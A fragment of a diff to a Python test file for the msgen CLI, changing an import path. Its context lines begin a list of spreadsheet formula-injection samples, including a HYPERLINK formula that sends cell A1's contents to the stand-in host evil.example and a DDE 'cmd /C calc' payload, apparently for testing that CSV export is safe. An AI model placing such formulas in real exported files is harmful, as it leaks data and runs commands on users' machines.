@@ -17,7 +17,7 @@ from pathlib import Path
 from typer.testing import CliRunner
 
 from msgen.cli import app
-from msgen.registry import COLUMNS, as_csv
+from msgen.annual.registry import COLUMNS, as_csv
 from test_registry import STAFFORDSHIRE
 
 FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
